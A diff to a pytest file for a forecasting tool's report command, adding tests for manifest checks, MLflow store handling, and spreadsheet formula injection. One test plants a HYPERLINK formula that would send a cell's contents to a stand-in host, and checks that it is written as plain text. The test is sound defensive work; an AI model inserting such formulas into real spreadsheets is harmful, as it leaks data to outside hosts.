@@ -8,12 +8,14 @@ import json
 import re
 import shutil
 import subprocess
+import zipfile
 
 import numpy as np
 import openpyxl
 import pytest
 from typer.testing import CliRunner
 
+from forecasting.data.publish import write_manifest
 from forecasting.forecast import Forecast
 from forecasting.scheme.in_force import plan_from_dict
 from optimization.evaluate import evaluate_plan
@@ -170,5 +172,36 @@ def test_report_renders_in_headless_chromium(report, plan_dirs, forecast_dir, tm
 def test_report_refuses_a_folder_without_plan(tmp_path):
     result = runner.invoke(app, ["report", "--plans", str(tmp_path), "--out",
                                  str(tmp_path / "r")])
-    assert result.exit_code == 2 and "no plan.json" in result.stderr
+    assert result.exit_code == 2
+    assert "no manifest.json; expected a complete `ciplan optimize` output" in result.stderr
     assert not (tmp_path / "r").exists()
+
+
+def test_text_that_looks_like_a_formula_stays_text(plan_dirs, tmp_path):
+    """A name in a plan file starting with '=' (from a file sent by the other side) is a
+    text cell in the XLSX, never a formula Excel would run."""
+    folder = shutil.copytree(plan_dirs[0], tmp_path / "A")
+    doc = json.loads((folder / "plan.json").read_text())
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    doc["shadow_prices"][0]["constraint"] = formula
+    (folder / "plan.json").write_text(json.dumps(doc))
+    write_manifest(folder, "plan", {})
+    out = tmp_path / "report"
+    result = runner.invoke(app, ["report", "--plans", str(folder), "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    with zipfile.ZipFile(out / "report.xlsx") as book:
+        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
+        assert not any(b"<f>" in book.read(n) or b"<f " in book.read(n) for n in sheets)
+    values = [c for row in openpyxl.load_workbook(out / "report.xlsx")["Shadow"].values
+              for c in row]
+    assert formula in values
+
+
+def test_report_on_plans_of_another_store_writes_and_says_so(plan_dirs, tmp_path,
+                                                              monkeypatch):
+    monkeypatch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{tmp_path / 'other.db'}")
+    out = tmp_path / "report"
+    result = runner.invoke(app, ["report", "--plans", str(plan_dirs[0]), "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    assert (out / "report.html").exists() and (out / "report.xlsx").exists()
+    assert "Not logged to MLflow: the runs of plans A are not in the store" in result.stdout
